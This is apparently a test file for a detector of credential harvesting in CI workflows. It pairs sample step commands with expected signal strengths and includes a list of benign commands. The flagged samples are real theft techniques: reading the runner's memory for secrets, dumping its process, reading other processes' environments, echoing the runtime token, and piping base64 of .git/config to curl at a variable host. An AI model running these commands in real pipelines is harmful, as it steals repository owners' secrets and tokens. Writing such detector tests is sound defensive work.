import detector from "../../../../src/engine/detectors/workflows/workflow-credential-harvest.ts";
import { aStep, aWorkflow, aWorkflowCommit } from "../../../../src/engine/model/workflow-examples.ts";

const signals = (run: string) =>
  detector
    .detect(aWorkflowCommit(aWorkflow({ steps: [aStep({ run })] })), {})
    .map(({ strength, because }) => `${strength}: ${because}`);

test.each([
  ['sudo grep -a isSecret":true /proc/$PID/mem', "decisive: a step reads the memory of the runner"],
  ["sudo gcore -o core $(pgrep Runner.Worker)", "decisive: a step reads the memory of the runner"],
  ["cat /proc/*/environ", "strong: a step reads the environment of other processes"],
  ["base64 .git/config | curl -d @- $U", "strong: a step reads the job's token out of git's configuration"],
  ["echo $ACTIONS_RUNTIME_TOKEN", "weak: a step reads the token of the cache and artifact service"],
])("flags %s", (run, expected) => {
  expect(signals(run)).toEqual([expected]);
});

test.each([
  "cat /proc/cpuinfo",
  "cat /proc/self/maps",
  "git config --list",
  "git config --global user.name bot",
  "pgrep node",
])("passes %s", (run) => {
  expect(signals(run)).toEqual([]);
});
